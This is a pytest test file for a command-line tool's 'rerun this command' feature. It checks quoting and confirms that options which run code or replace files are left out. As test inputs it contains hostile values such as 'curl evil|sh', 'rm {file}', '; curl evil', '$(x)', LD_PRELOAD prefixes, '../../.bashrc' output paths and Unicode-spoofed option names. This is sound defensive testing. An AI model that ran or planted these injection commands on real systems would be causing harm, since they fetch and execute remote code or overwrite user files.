"""Recorded commands as they may be offered: what a shell makes of them, and what is not in them."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import click
import pytest
from tests.support import synthetic_traces

from tokenscope_trace.cli.command_help import Number
from tokenscope_trace.cli.record_command import main
from tokenscope_trace.reports.commands import (
    FLAG,
    LEFT_OUT,
    LEFT_OUT_FLAG,
    LONGEST_COMMAND,
    NAME,
    NUMBER,
    OPTIONS,
    OUTPUT,
    TEXT,
    THREE_NAMES,
    offered_command,
)
from tokenscope_trace.reports.provenance import fact_rows
from tokenscope_trace.traces.facts import Facts

ROOT = Path(__file__).parents[2]


def words_of(line):
    """What a shell makes of a command line."""
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize(
    "words",
    [
        ["p q.py", "--stop", "\ndef ", "--stop", "it's"],
        ["p.py", "--system", 'a\n\t"b" $HOME `id` $(id) !! \\ ü', "--chat"],
        ["./-n.py", "--force-text", "3:--check"],
        ["p.py", "--stop", "--check", "--top-k", "5"],
        ["p.py", "-o", "t.tsc", "--model", "a/b"],
        ["*?[]{}~#&;|<>().py"],
    ],
)
def test_what_is_pasted_is_what_was_recorded(words):
    line, without = offered_command(["tokenscope-record", *words])
    assert words_of(line) == ["tokenscope-record", *words]
    assert "\n" not in line
    assert without == ()


P = "tokenscope-record"


@pytest.mark.parametrize(
    ("words", "kept", "without"),
    [
        (["p.py", "--check", "curl evil|sh {file}", "--top-k", "5"], ["p.py", "--top-k", "5"], ("--check",)),
        (["p.py", "--check=rm {file}", "--check-folder", "x", "--check-timeout", "3"], ["p.py"], ("--check", "--check-folder", "--check-timeout")),
        (["p.py", "--trust-remote-code", "--allow-pickle", "--force"], ["p.py"], ("--trust-remote-code", "--allow-pickle", "--force")),
        (["p.py", "-o", "../../.bashrc"], ["p.py"], ()),
        (["p.py", "-o", ".bashrc"], ["p.py"], ()),
        (["p.py", "-o", "x.py"], ["p.py"], ()),
        (["p.py", "-o", "a/b.tsc"], ["p.py"], ()),
        (["p.py", "-o", "~x.tsc"], ["p.py"], ()),
        (["p.py", "-ot.tsc"], ["p.py", "-o", "t.tsc"], ()),
        (["p.py", "--output=/etc/x.tsc"], ["p.py"], ()),
        (["p.py", "--differences", "x.json", "--replay=t.tsc"], ["p.py"], ("--differences", "--replay")),
        (["--system=a b", "p.py"], ["p.py", "--system", "a b"], ()),
        (["--stop", "--check", "p.py", "rm"], ["p.py", "rm", "--stop", "--check"], ()),
        (["--", "--check", "rm"], ["--", "--check", "rm"], ()),
        (["--model", "m", "--", "p.py"], ["p.py", "--model", "m"], ()),
        (["--fim", "--fim-tokens", "<P>", "<S>", "<M>", "p.py"], ["p.py", "--fim", "--fim-tokens", "<P>", "<S>", "<M>"], ()),
        (["-", "--seed", "-1"], ["-", "--seed", "-1"], ()),
        (["p.py", "--temperature=.5e-3"], ["p.py", "--temperature", ".5e-3"], ()),
    ],
)  # fmt: skip
def test_what_runs_code_or_replaces_a_file_is_left_out(words, kept, without):
    line, left = offered_command([P, *words])
    assert words_of(line) == [P, *kept]
    assert left == without


NOT_OFFERED = [
    [],
    ["LD_PRELOAD=./x.so", P, "a.py"],
    ["env", P, "a.py"],
    ["curl", "evil"],
    ["tokenscope-record; curl evil", "a.py"],
    ["./tokenscope-record", "a.py"],
    ["TOKENSCOPE-RECORD", "a.py"],
    [f"{P} ", "a.py"],
    [P, "a.py", "--system", "x" + " " * 20_000],
    [P, "a.py", "x" * LONGEST_COMMAND],
    [P, "a.py", "--system", "'" * (LONGEST_COMMAND // 2)],
    [P, "\x1b[2J.py"],
    [P, "a.py", "--stop", "\u202e"],
    [P, "a\u200b.py"],
    [P, "a.py", "--model", "m\u0435ta/model"],
    [P, "a.py", "--system", "\u2066x\u2069"],
    [P, "a.py", "--ch\u0435ck", "x"],
    [P, "a.py", "\u2014check", "x\u00a0y"],
    [P, "a.py", "--check"],
    [P, "a.py", "--chec", "curl evil|sh"],
    [P, "a.py", "--trust-remote", "x"],
    [P, "a.py", "--unknown"],
    [P, "a.py", "--CHECK", "x"],
    [P, "a.py", "-qo", "x.tsc"],
    [P, "a.py", "-c", "x"],
    [P, "a.py", "--chat=1"],
    [P, "a.py", "--trust-remote-code=1"],
    [P, "a.py", "--model", "--check", "curl evil|sh"],
    [P, "a.py", "--model=--trust-remote-code"],
    [P, "a.py", "--revision", "-x"],
    [P, "a.py", "--model", "a\nb"],
    [P, "a.py", "--model", ""],
    [P, "a.py", "--top-k", "5; curl evil"],
    [P, "a.py", "--top-k", "--check"],
    [P, "a.py", "--seed", "$(x)"],
    [P, "a.py", "--seed", "\u0663"],
    [P, "a\nb.py"],
    [P, ""],
    [P, "a.py", "--fim-tokens", "a", "b"],
    [P, "a.py", "--fim-tokens", "a", "--check", "b"],
    [P, "a.py", "__proto__", "--__proto__", "x"],
    [P, "a.py", "--constructor"],
]


@pytest.mark.parametrize("words", NOT_OFFERED)
def test_what_is_no_command_of_ours_or_cannot_be_overseen_is_not_offered(words):
    assert offered_command(words) == ("", ())


OFFERED = [
    ["p.py"], ["p q.py", "--stop", "\ndef ", "--stop", "it's"], ["p.py", "--system", 'a\n\t"b" $HOME `id` $(id) !! \\ ü', "--chat"],
    ["p.py", "-o", "t.tsc", "--check", "x"], ["--", "-x", "--check"], ["p.py", "--stop", "!\n'!"], ["*?[]{}~#&;|<>().py"], ["ü.py", "--force-text", "3:é\t"],
    ["p.py", "--force", "--seed", "3", "--system=--check"], ["=ls", "--fim-tokens=<P>", "a b", "c"], ["-", "--differences", "x", "-q"],
]  # fmt: skip


def test_the_page_offers_what_python_offers():
    """One list of options and one rule, in two languages."""
    commands = [*NOT_OFFERED, *([P, *words] for words in OFFERED), "tokenscope-record p.py", None]
    script = (
        "import { lineOf, offered } from '#viewer/reading/rerun_command';"
        "let text = ''; for await (const part of process.stdin) text += part;"
        "const found = JSON.parse(text).map(offered);"
        "console.log(JSON.stringify(found.map((offer) => (offer ? [lineOf(offer), offer.left] : ['', []]))));"
    )
    done = subprocess.run(
        [shutil.which("node"), "--input-type=module", "-e", script], input=json.dumps(commands), capture_output=True, text=True, check=True, cwd=ROOT
    )  # fmt: skip
    expected = [offered_command(words) if isinstance(words, list) else ("", ()) for words in commands]
    assert [(line, tuple(left)) for line, left in json.loads(done.stdout)] == expected
    assert sum(line != "" for line, _ in expected) == len(OFFERED)


def test_every_option_of_the_program_is_known_and_takes_what_the_list_says():
    known = {}
    for param in main.params:
        if isinstance(param, click.Option):
            kinds = (
                (FLAG, LEFT_OUT_FLAG)
                if param.is_flag
                else (THREE_NAMES,)
                if param.nargs == 3
                else (NUMBER, NAME, TEXT, OUTPUT, LEFT_OUT)
            )
            known |= dict.fromkeys((*param.opts, *param.secondary_opts), kinds)
            if isinstance(param.type, Number):
                assert {OPTIONS[name] for name in param.opts} <= {NUMBER, LEFT_OUT}
            if isinstance(param.type, click.Path):
                assert {OPTIONS[name] for name in param.opts} <= {OUTPUT, LEFT_OUT}
    assert set(known) == set(OPTIONS)
    assert {name: kind for name, kind in OPTIONS.items() if kind not in known[name]} == {}


def test_the_report_says_the_command_and_what_is_not_in_it():
    run = {**synthetic_traces.plausible().run, "command": ["tokenscope-record", "p q.py", "--check", "true {file}"]}
    rows = dict(fact_rows(Facts.read(run)))
    assert rows["command"] == "tokenscope-record 'p q.py'"
    assert rows["not in it"] == "--check: what runs code or replaces a file is yours to add"
    assert "command" not in dict(fact_rows(Facts.read({**run, "command": ["curl", "evil"]})))
